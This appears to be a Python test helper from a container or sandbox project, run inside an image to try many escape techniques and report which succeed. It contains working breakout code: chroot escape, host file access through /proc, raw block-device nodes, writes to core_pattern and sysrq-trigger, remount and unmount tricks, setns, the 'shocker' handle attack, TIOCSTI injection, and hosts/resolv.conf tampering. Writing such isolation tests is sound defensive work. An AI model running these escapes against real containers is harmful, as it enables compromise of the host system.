"""What a hostile program of an image tries to get out with. Runs inside, with nothing but Python's
own library; prints a JSON object: attack -> what it reached. Nothing reached is nothing printed.

argv: the path of a file of the computer's that nobody in there may see, its content, a process of
the computer's.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct
import sys

from tests.support.attacks import LIBC, X86, attack, try_all

SECRET, CONTENT, OUTSIDE = sys.argv[1], sys.argv[2], int(sys.argv[3])


def call(number: tuple[int, int], *arguments: object) -> int:
    """A system call; -1 where it is refused."""
    return int(LIBC.syscall(number[0] if X86 else number[1], *arguments))


def read(path: str) -> str:
    with open(path, errors="replace") as file:
        return file.read(200)


def reads_secret(path: str) -> str:
    return path if CONTENT in read(path) else ""


@attack
def the_file_itself() -> str:
    return reads_secret(SECRET)


@attack
def up_and_up() -> str:
    return reads_secret("../" * 40 + SECRET)


@attack
def out_by_an_open_folder() -> str:
    """chroot(2): does not change the working directory, so a second one lets out of the first."""
    os.mkdir("/tmp/jail")
    held = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(held)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return reads_secret(SECRET)


@attack
def by_the_first_process() -> str:
    return reads_secret(f"/proc/1/root{SECRET}")


@attack
def by_any_process() -> str:
    for name in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd"):
            try:
                if reads_secret(f"/proc/{name}/{way}{SECRET}"):
                    return name
            except OSError:
                continue
    return ""


@attack
def by_what_is_left_open() -> str:
    for number in range(3, 1000):
        try:
            held = os.readlink(f"/proc/self/fd/{number}")
            if os.path.isdir(f"/proc/self/fd/{number}") and not held.startswith("/proc"):
                return held
        except OSError:
            continue
    return ""


@attack
def a_process_of_the_computer() -> str:
    if os.path.exists(f"/proc/{OUTSIDE}/status"):
        return read(f"/proc/{OUTSIDE}/status")
    os.kill(OUTSIDE, 0)
    return "it can be signalled"


@attack
def the_disk_by_a_device_file() -> str:
    for major, minor in ((8, 0), (179, 0), (254, 0), (253, 0), (7, 0), (1, 1)):
        os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
        try:
            os.close(os.open("/tmp/disk", os.O_RDONLY))
            return f"{major}:{minor}"
        except OSError:
            os.unlink("/tmp/disk")
    return ""


@attack
def a_device_file_of_the_image() -> str:
    """One that tar(1) has unpacked."""
    os.close(os.open("/root/null", os.O_RDWR))
    return "it opens"


@attack
def a_device_in_dev() -> str:
    allowed = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
    return " ".join(
        name for name in os.listdir("/dev")
        if name not in allowed and not os.path.islink(f"/dev/{name}")
        and not os.path.isdir(f"/dev/{name}")
    )  # fmt: skip


@attack
def the_kernels_core_pattern() -> str:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "it can be written"


@attack
def any_setting_of_the_kernel() -> str:
    for folder, _, names in os.walk("/proc/sys/kernel"):
        for name in names:
            try:
                os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                return name
            except OSError:
                continue
    return ""


@attack
def the_magic_key() -> str:
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return "it can be pressed"


@attack
def sysfs_and_cgroups() -> str:
    there = [p for p in ("/sys/fs/cgroup", "/sys/kernel", "/sys/class") if os.path.exists(p)]
    return " ".join(there)


@attack
def mounting_what_leads_out() -> str:
    for kind in (b"proc", b"sysfs", b"cgroup2", b"devtmpfs", b"debugfs", b"securityfs"):
        os.makedirs("/tmp/m", exist_ok=True)
        if call((165, 40), kind, b"/tmp/m", kind, 0, None) == 0:
            if kind == b"proc":  # of its own processes only, where it may at all
                try:
                    os.close(os.open("/tmp/m/sys/kernel/core_pattern", os.O_WRONLY))
                except OSError:
                    continue
            return kind.decode()
    return ""


@attack
def writing_again_what_is_read_only() -> str:
    call((165, 40), None, b"/proc", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "it can be written"


@attack
def the_same_in_another_place() -> str:
    """Read-only is a property of a mount, and this would be another one."""
    os.makedirs("/tmp/p", exist_ok=True)
    call((165, 40), b"/proc", b"/tmp/p", None, 4096, None)  # MS_BIND
    call((165, 40), None, b"/tmp/p", None, 32 | 4096, None)
    os.close(os.open("/tmp/p/sys/kernel/core_pattern", os.O_WRONLY))
    return "it can be written"


@attack
def what_lies_under_a_mount() -> str:
    for where in (b"/proc", b"/dev", b"/tmp", b"/run", b"/"):
        call((166, 39), where, 2)  # MNT_DETACH
    return reads_secret(SECRET)


@attack
def a_namespace_of_another_process() -> str:
    for name in filter(str.isdigit, os.listdir("/proc")):
        for kind in ("mnt", "pid", "user"):
            held = os.open(f"/proc/{name}/ns/{kind}", os.O_RDONLY)
            own = os.stat(held).st_ino == os.stat(f"/proc/self/ns/{kind}").st_ino
            if not own and call((308, 268), held, 0) == 0:
                return kind
            os.close(held)
    return ""


@attack
def a_file_by_its_handle() -> str:
    """CVE-less, as in "shocker": handles name files of the whole file system."""
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, 2) + bytes(64))
    held = os.open("/", os.O_RDONLY)
    root = call((304, 265), held, handle, os.O_RDONLY)
    return "the root of the file system" if root >= 0 else ""


@attack
def tracing() -> str:
    return "PTRACE_TRACEME" if call((101, 117), 0, 0, 0, 0) == 0 else ""


@attack
def the_keyring() -> str:
    return "it answers" if call((250, 219), 0, -3, 1) > 0 else ""


@attack
def programs_in_the_kernel() -> str:
    if call((321, 280), 0, bytes(128), 128) >= 0:
        return "bpf"
    event = ctypes.create_string_buffer(128)
    return "perf" if call((298, 241), event, 0, -1, -1, 0) >= 0 else ""


@attack
def a_ring_that_goes_around_filters() -> str:
    return "io_uring" if call((425, 425), 4, ctypes.create_string_buffer(128)) >= 0 else ""


@attack
def raw_packets() -> str:
    for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, 1).close()
            return str(family)
        except OSError:
            continue
    return ""


@attack
def the_terminal() -> str:
    """TIOCSTI types into it; a session of one's own has none."""
    held = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(held, 0x5412, b"x")
    return "typed"


@attack
def the_name_of_the_computer() -> str:
    socket.sethostname("evil")
    return "changed"


@attack
def the_clock() -> str:
    class Time(ctypes.Structure):
        _fields_ = [("s", ctypes.c_long), ("n", ctypes.c_long)]

    return "set" if call((227, 112), 0, ctypes.byref(Time(0, 0))) == 0 else ""


@attack
def a_module() -> str:
    LIBC.syscall(175 if X86 else 105, b"", 0, b"")
    return "" if ctypes.get_errno() == 1 else os.strerror(ctypes.get_errno())


@attack
def the_hosts_file_of_the_computer() -> str:
    """A copy is there; what is written to it must not be in the computer's, who looks says."""
    with open("/etc/hosts", "a") as file:
        file.write("6.6.6.6 evil\n")
    with open("/etc/resolv.conf", "a") as file:
        file.write("nameserver 6.6.6.6\n")
    return ""


@attack
def living_on() -> str:
    """The test looks for it afterwards."""
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execv(sys.executable, ["i-live-on", "-c", "import time; time.sleep(300)"])
    return ""


try_all()
